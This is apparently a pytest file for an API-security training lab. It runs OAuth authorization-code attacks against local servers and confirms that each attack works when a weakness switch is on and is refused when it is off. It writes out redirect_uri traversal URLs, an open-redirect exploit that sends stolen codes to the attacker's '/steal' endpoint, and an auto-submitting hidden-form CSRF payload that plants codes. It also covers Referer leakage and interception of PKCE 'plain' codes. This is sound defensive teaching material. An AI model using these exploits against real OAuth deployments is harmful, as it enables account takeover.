"""Notebook 06's attacks on the authorization flow, each with its weakness switch on (it works) and off (refused).

Real HTTP on loopback throughout: Alice's browser (``lab.victim``), Mallory's browser, PhotoPrint's website, the
authorization server and the attacker's server, every request through the wiretap.  An attack counts as working
only by the lab's own records: PhotoPrint's sessions and links, the store's codes and grants.
"""
from __future__ import annotations

import secrets
from urllib.parse import parse_qsl, quote, urlencode, urlsplit, urlunsplit

import pytest

import apisec_lab
from apisec_lab.client import flows

MALLORY = ("mallory", "through-the-looking-glass")


def swap(url: str, **params) -> str:
    parts = urlsplit(url)
    query = dict(parse_qsl(parts.query))
    query.update(params)
    return urlunsplit((parts.scheme, parts.netloc, parts.path, urlencode(query), ""))


def mallory_starts_signing_in(lab):
    """Mallory's own browser starts "Sign in with the lab" at PhotoPrint; where it was sent (his state, his PKCE)."""
    mallory = lab.browser("Mallory")
    page = mallory.visit(lab.web_url + "/login")
    assert page.url.startswith(lab.metadata["authorization_endpoint"])
    return mallory, page.url


def stolen(lab) -> dict:
    """The newest authorization response that reached the attacker's server, in a URL or a Referer."""
    for hit in reversed(lab.attacker.records):
        for params in (hit.query, hit.referer_query):
            if "code" in params:
                return params
    return {}


def session_of(lab, browser):
    return lab.photoprint.session_for(browser.cookies(lab.web_url).get("photoprint_session"))


def hijack(lab, mallory, exploit: str):
    """Send Alice *exploit*; Mallory plants whatever reached his server in his own session. His session after."""
    lab.victim.visit(exploit)
    back = stolen(lab)
    if back:
        mallory.visit(f"{lab.web_url}/callback?code={back['code']}&state={back['state']}")
    return session_of(lab, mallory), back


@pytest.fixture
def mallory(lab):
    """Mallory's browser, and the authorization URL PhotoPrint sent it to (after Alice signed in for the day)."""
    assert lab.victim                              # Alice signs in first: her browser is signed in at PhotoPrint and the lab
    return mallory_starts_signing_in(lab)


# -- RFC 9700 s4.1: a loose redirect URI ---------------------------------------------------------------------
def test_rfc9700_s4_1_a_prefix_match_lets_a_code_land_on_a_leaky_page_and_the_account_is_taken(lab, mallory):
    browser, url = mallory
    exploit = swap(url, redirect_uri=f"{lab.web_url}/callback/../prints")
    with lab.weaknesses.turned_on(redirect_uri_prefix=True):
        session, back = hijack(lab, browser, exploit)
    assert back and session is not None and session.account == "alice", "Mallory's session is in Alice's account"
    assert lab.store.code(back["code"])["redirect_uri"] == f"{lab.web_url}/callback/../prints"


def test_rfc9700_s4_1_exact_matching_refuses_the_same_exploit_and_no_code_leaves(lab, mallory):
    browser, url = mallory
    exploit = swap(url, redirect_uri=f"{lab.web_url}/callback/../prints")
    session, back = hijack(lab, browser, exploit)
    assert not back and session.account is None
    assert lab.victim.page.status == 400 and "Location" not in lab.wiretap.last().response.headers


def test_rfc6749_s4_1_3_exact_matching_refuses_a_code_issued_elsewhere_at_the_token_endpoint(lab, mallory):
    """The other half of the weakness: a code issued to ``.../callback/../prints`` redeemed at ``/callback``."""
    browser, url = mallory
    exploit = swap(url, redirect_uri=f"{lab.web_url}/callback/../prints")
    with lab.weaknesses.turned_on(redirect_uri_prefix=True):
        lab.victim.visit(exploit)
    back = stolen(lab)
    browser.visit(f"{lab.web_url}/callback?code={back['code']}&state={back['state']}")
    assert session_of(lab, browser).account is None
    assert "invalid_grant" in lab.photoprint.events()[-1].detail


# -- RFC 9700 s4.11.1: an open redirector on the client ------------------------------------------------------
def open_redirect_exploit(lab, url):
    return swap(url, redirect_uri=f"{lab.web_url}/callback/../out?to={quote(lab.attacker.url + '/steal', safe='')}")


def test_rfc9700_s4_11_1_an_open_redirector_forwards_the_code_to_the_attacker(lab, mallory):
    with lab.weaknesses.turned_on(redirect_uri_prefix=True, open_redirect=True):
        session, back = hijack(lab, mallory[0], open_redirect_exploit(lab, mallory[1]))
    assert lab.attacker.last().path == "/steal" and back["code"]
    assert session.account == "alice"


def test_rfc9700_s4_11_1_photoprints_tracker_goes_to_its_own_pages_only(lab, mallory):
    with lab.weaknesses.turned_on(redirect_uri_prefix=True):
        session, back = hijack(lab, mallory[0], open_redirect_exploit(lab, mallory[1]))
    assert not back and session.account is None
    assert lab.victim.page.url.startswith(f"{lab.web_url}/out?") and lab.victim.page.status == 400
    assert not lab.attacker.records


# -- RFC 9700 s4.7 and s4.8: forced account linking without state, PKCE downgraded ------------------------------
def mallorys_link_code(lab, pkce: bool) -> str:
    params = {"response_type": "code", "client_id": "photoprint-web", "redirect_uri": f"{lab.web_url}/link/callback",
              "scope": "profile:read", "state": "anything"}
    if pkce:
        params.update(code_challenge=flows.make_pkce().challenge, code_challenge_method="S256")
    back = lab.authorize(lab.metadata["authorization_endpoint"] + "?" + urlencode(params), *MALLORY)
    assert back.code, back
    return back.code


def plant(lab, code: str, how: str = "form") -> None:
    target = f"{lab.web_url}/link/callback?code={code}&state=anything"
    page = (f"<img src='{target}'>" if how == "img" else
            f"<form action='{lab.web_url}/link/callback'><input type=hidden name=code value='{code}'>"
            "<input type=hidden name=state value=anything></form><script>document.forms[0].submit()</script>")
    lab.victim.visit(lab.attacker.serve("/cats", page))


@pytest.fixture
def mallory_user(lab):
    lab.add_user(*MALLORY)
    assert lab.victim                      # Alice signs in first


def test_rfc9700_s4_8_forced_linking_works_when_state_is_skipped_and_pkce_downgraded(lab, mallory_user):
    with lab.weaknesses.turned_on(client_skips_state=True, pkce_optional=True):
        plant(lab, mallorys_link_code(lab, pkce=False))
        mallory = lab.browser("Mallory")
        mallory.visit(lab.web_url + "/login")
        mallory.submit(username=MALLORY[0], password=MALLORY[1], decision="approve")
    assert "mallory" in lab.photoprint.account("alice").lab_users
    assert session_of(lab, mallory).account == "alice", "Mallory signs in with the lab, into Alice's account"


def test_rfc6749_s10_12_state_bound_to_the_browser_refuses_the_planted_code(lab, mallory_user):
    with lab.weaknesses.turned_on(pkce_optional=True):
        plant(lab, mallorys_link_code(lab, pkce=False))
    assert lab.photoprint.account("alice").lab_users == ["alice"]
    assert "state" in lab.photoprint.events()[-1].detail


def test_rfc9700_s2_1_1_pkce_alone_stops_the_planted_code(lab, mallory_user):
    """PKCE doubles as CSRF protection: the code is bound to Mallory's challenge, Alice's browser has no verifier."""
    with lab.weaknesses.turned_on(client_skips_state=True):
        plant(lab, mallorys_link_code(lab, pkce=True))
    assert lab.photoprint.account("alice").lab_users == ["alice"]
    assert "invalid_request" in lab.photoprint.events()[-1].detail      # Missing code_verifier


def test_samesite_lax_keeps_alices_cookie_off_a_cross_site_image(lab, mallory_user):
    with lab.weaknesses.turned_on(client_skips_state=True, pkce_optional=True):
        plant(lab, mallorys_link_code(lab, pkce=False), how="img")
    assert lab.photoprint.account("alice").lab_users == ["alice"]
    assert "not signed in" in lab.photoprint.events()[-1].detail


# -- RFC 9700 s4.2.1: a code in the Referer ---------------------------------------------------------------------
def test_rfc9700_s4_2_1_the_callback_page_leaks_the_code_in_the_referer(lab):
    assert lab.victim                      # Alice signs in first
    with lab.weaknesses.turned_on(referrer_leak=True):
        lab.victim.visit(lab.web_url + "/login")
    hit = lab.attacker.last()
    assert hit.path == "/partner/pixel.gif" and hit.referer.startswith(f"{lab.web_url}/callback?code=")
    row = lab.store.code(hit.referer_query["code"])
    assert row["username"] == "alice" and row["client_id"] == "photoprint-web"
    assert row["used_at"] is not None, "PhotoPrint redeemed it before the page was shown: single use protects it"


def test_rfc9700_s4_2_4_redirect_after_the_callback_and_no_referrer_keep_it_in(lab):
    lab.victim.visit(lab.web_url + "/login")
    assert not lab.attacker.records
    callback = next(h for h in reversed(lab.victim.history) if "/callback?" in h.url)
    assert callback.status == 303
    assert lab.victim.page.policy == "no-referrer"


# -- RFC 9700 s2.1.1 and RFC 7636 s7.2: PKCE plain --------------------------------------------------------------
@pytest.fixture
def photosync(lab):
    """A public client whose callback port the attacker's server holds (notebook 06's PhotoSync)."""
    return lab.register_client("PhotoSync", redirect_uris=[lab.attacker.url + "/photosync/callback"],
                               scopes=["photos:read"], public=True)


def alice_signs_in_to(lab, client, pkce: flows.PKCE):
    url = flows.authorization_url(lab, client.client_id, ["photos:read"], state="s", pkce=pkce,
                                  redirect_to=lab.attacker.url + "/photosync/callback")
    page = lab.victim.visit(url)
    if page.forms:
        lab.victim.submit(username="alice", password=apisec_lab.DEMO_PASSWORDS["alice"], decision="approve")
    return url


def redeem(lab, client, code, verifier):
    return flows.exchange_code(lab, client, code, code_verifier=verifier,
                               redirect_to=lab.attacker.url + "/photosync/callback")


def test_rfc7636_s7_2_with_plain_the_challenge_an_observer_saw_redeems_the_intercepted_code(lab, photosync):
    verifier = secrets.token_urlsafe(32)
    with lab.weaknesses.turned_on(pkce_plain=True):
        assert "plain" in lab.metadata["code_challenge_methods_supported"]
        url = alice_signs_in_to(lab, photosync, flows.PKCE(verifier, verifier, "plain"))
        challenge = dict(parse_qsl(urlsplit(url).query))["code_challenge"]
        r = redeem(lab, photosync, stolen(lab)["code"], challenge)
    assert r.status_code == 200 and lab.introspect(r.json()["access_token"])["username"] == "alice"


def test_rfc9700_s2_1_1_plain_is_refused_and_not_advertised(lab, photosync):
    verifier = secrets.token_urlsafe(32)
    assert lab.metadata["code_challenge_methods_supported"] == ["S256"]
    alice_signs_in_to(lab, photosync, flows.PKCE(verifier, verifier, "plain"))
    back = lab.attacker.last().query
    assert back["error"] == "invalid_request" and "code" not in back


def test_rfc7636_s7_2_with_s256_the_challenge_an_observer_saw_redeems_nothing(lab, photosync):
    pkce = flows.make_pkce()
    url = alice_signs_in_to(lab, photosync, pkce)
    challenge = dict(parse_qsl(urlsplit(url).query))["code_challenge"]
    r = redeem(lab, photosync, stolen(lab)["code"], challenge)
    assert r.status_code == 400 and r.json()["error"] == "invalid_grant"


def test_a_plain_code_is_not_redeemed_once_the_switch_is_off_and_the_answer_is_a_4xx(lab, photosync):
    verifier = secrets.token_urlsafe(32)
    with lab.weaknesses.turned_on(pkce_plain=True):
        alice_signs_in_to(lab, photosync, flows.PKCE(verifier, verifier, "plain"))
    r = redeem(lab, photosync, stolen(lab)["code"], verifier)
    assert r.status_code == 400 and r.json()["error"] == "invalid_grant" and "plain" in r.json()["error_description"]


def test_rfc7636_s4_2_a_plain_challenge_has_the_verifiers_shape(lab, photosync):
    with lab.weaknesses.turned_on(pkce_plain=True):
        alice_signs_in_to(lab, photosync, flows.PKCE("short", "short", "plain"))
    back = lab.attacker.last().query
    assert back["error"] == "invalid_request" and "plain" in back["error_description"]


def test_every_attack_left_no_server_bug(lab):
    assert lab.errors == []


def test_rfc9700_s4_2_a_code_in_a_referer_is_a_credential_crossing_the_wire(lab):
    """The wiretap's diagram names it: the request to the attacker carries Alice's code in its Referer."""
    from apisec_lab.servers.sequence import request_credentials
    assert lab.victim
    with lab.weaknesses.turned_on(referrer_leak=True):
        lab.victim.visit(lab.web_url + "/login")
    pixel = next(x for x in reversed(lab.wiretap.records) if x.server == "attacker")
    assert request_credentials(pixel, lab.store) == ["code (in the Referer)"]
